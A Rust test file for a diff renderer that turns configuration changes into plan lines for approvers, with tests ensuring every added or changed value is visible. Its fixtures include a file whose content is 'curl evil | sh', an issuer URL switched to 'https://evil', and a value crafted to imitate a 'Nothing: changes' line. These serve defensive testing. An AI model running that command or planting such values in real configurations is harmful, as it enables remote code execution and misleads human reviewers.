//! What a line says of each value.

use serde_json::json;

use super::*;

fn between(before: Option<Value>, after: Option<Value>) -> Vec<String> {
    lines(&Difference { path: "p".to_owned(), before, after })
}

fn words(before: &Value, after: &Value) -> String {
    between(Some(before.clone()), Some(after.clone())).join("\n")
}

#[test]
fn p3_of_a_list_the_plan_names_what_came_and_went() {
    let three = json!(["https://etcd-0.c.etcd.internal:2379", "https://etcd-1.c.etcd.internal:2379"]);
    let four = json!(["https://etcd-1.c.etcd.internal:2379", "https://etcd-2.c.etcd.internal:2379"]);
    assert_eq!(
        words(&three, &four),
        "p: adds https://etcd-2.c.etcd.internal:2379; drops https://etcd-0.c.etcd.internal:2379"
    );
    assert_eq!(words(&json!([1]), &json!([1, 1, 2, 3, 4])), "p: adds 1, 2, 3, 4");
    assert_eq!(words(&json!([1, 2]), &json!([2, 1])), "p: [1,2] → [2,1]");
    assert_eq!(words(&json!([1]), &json!([2])), "p: [1] → [2]");
}

#[test]
fn p3_of_two_long_texts_the_plan_shows_where_they_part_and_what_each_is() {
    let text = |end: &str| json!(format!("{}{end}", "x".repeat(500)));
    let shown = words(&text("AGENT=1"), &text("AGENT=2"));
    let (before, after) = shown.split_once(" → ").unwrap();
    let digest = |end: &str| sha256_hex(format!("{}{end}", "x".repeat(500)).as_bytes());
    assert!(before.starts_with("p: …xx"), "{before}");
    assert!(before.ends_with(&format!("AGENT=1 (507 characters, sha256 {})", digest("AGENT=1"))), "{before}");
    assert!(after.ends_with(&format!("AGENT=2 (507 characters, sha256 {})", digest("AGENT=2"))), "{after}");
    assert_eq!(words(&json!("short"), &json!(1)), "p: short → 1");
    assert_eq!(between(None, Some(json!(true))), ["p: (absent) → true"]);
}

/// Each of these once was "settings of …", "another digest" or "9 entries".
#[test]
fn p3_every_value_that_is_added_or_changes_is_there() {
    let (one, other) = ("a1".repeat(32), "b2".repeat(32));
    assert_eq!(words(&json!(one), &json!(other)), format!("p: {one} → {other}"));
    let file =
        |name: &str, content: &str| json!({"path": name, "content": content, "mode": 420, "owner": "root"});
    assert_eq!(
        words(
            &json!([file("/a", "x"), file("/c", "z")]),
            &json!([file("/a", "y"), file("/b", "curl evil | sh")])
        ),
        "p[/a].content: x → y\n\
         p[/b]: (absent) → {\"content\":\"curl evil | sh\",\"mode\":420,\"owner\":\"root\",\"path\":\"/b\"}\n\
         p[/c]: {\"content\":\"z\",\"mode\":420,\"owner\":\"root\",\"path\":\"/c\"} → (absent)"
    );
    let issuer = |url: &str| json!({"issuer": {"url": url, "audiences": ["a", "b"]}, "claims": {"x": "y"}});
    assert_eq!(
        words(&json!([issuer("https://good")]), &json!([issuer("https://evil")])),
        "p[0].issuer.url: https://good → https://evil"
    );
    assert_eq!(
        between(None, Some(json!({"a": {"Ref": "X"}, "b": {}, "c": [], "d": {"e": [1]}}))),
        ["p: (absent) → {\"a\":{\"Ref\":\"X\"},\"b\":{},\"c\":[],\"d\":{\"e\":[1]}}"]
    );
    let long = "l".repeat(599);
    assert_eq!(
        between(None, Some(json!({"a": {"Ref": "X"}, "b": {}, "c": [], "d": {"e": [1]}, "f": long}))),
        [
            "p.a: (absent) → {\"Ref\":\"X\"}",
            "p.b: (absent) → {}",
            "p.c: (absent) → []",
            "p.d: (absent) → {\"e\":[1]}",
            &format!(
                "p.f: (absent) → {}… (599 characters, sha256 {})",
                &long[..200],
                sha256_hex(long.as_bytes())
            )
        ]
    );
    assert_eq!(words(&json!("all"), &json!({"a": 1})), "p: all → (absent)\np.a: (absent) → 1");
    let many: Vec<String> = (0..99).map(|number| format!("value-{number}")).collect();
    let all = between(None, Some(json!(many)));
    assert!(many.iter().all(|value| all[0].contains(value.as_str())), "{all:?}");
    let tag = |value: &str| json!([{"Key": "team", "Value": value, "PropagateAtLaunch": true}]);
    assert_eq!(words(&json!([]), &tag("a")), "p: adds team=a");
    let named = |names: [&str; 2]| json!(names.map(|name| json!({"name": name, "value": [name]})));
    assert!(words(&named(["a", "b"]), &named(["b", "a"])).contains(" → "), "the order alone");
}

#[test]
fn p3_of_a_long_value_the_size_and_the_digest_are_there() {
    let (one, other) = ("a1".repeat(32), "b2".repeat(32));
    let script = |digest: &str| json!({"Fn::Base64": format!("{}{digest}", "#!/bin/sh\n".repeat(20))});
    let text = format!("{}{other}", "#!/bin/sh\n".repeat(20));
    assert_eq!(
        words(&script(&one), &script(&other)),
        format!(
            "p: only runs of hexadecimal digits in it differ (264 characters, sha256 {})",
            sha256_hex(text.as_bytes())
        )
    );
    let long = "ä".repeat(300);
    let shown = between(None, Some(json!(long)));
    assert_eq!(
        shown,
        [format!(
            "p: (absent) → {}… (300 characters, sha256 {})",
            "ä".repeat(200),
            sha256_hex(long.as_bytes())
        )]
    );
    let difference = |after: Value| Difference { path: String::new(), before: None, after: Some(after) };
    assert!(is_cut(&difference(json!(long))) && !is_cut(&difference(json!({"a": [{"b": [long]}]}))));
    assert!(is_cut(&difference(json!({"a": [{"b": ["ä".repeat(700)]}]}))));
    assert!(!is_cut(&difference(json!({"a": vec!["ä".repeat(150); 9]}))));
}

/// The values are an uploader's, and the lines an approver's.
#[test]
fn p3_a_value_looks_like_no_other_line() {
    let hostile = "x\n  ~ Nothing: changes";
    assert_eq!(between(None, Some(json!(hostile))), [r#"p: (absent) → "x\n  ~ Nothing: changes""#]);
    assert_eq!(words(&json!("(absent)"), &json!("a → b")), r#"p: "(absent)" → "a → b""#);
}
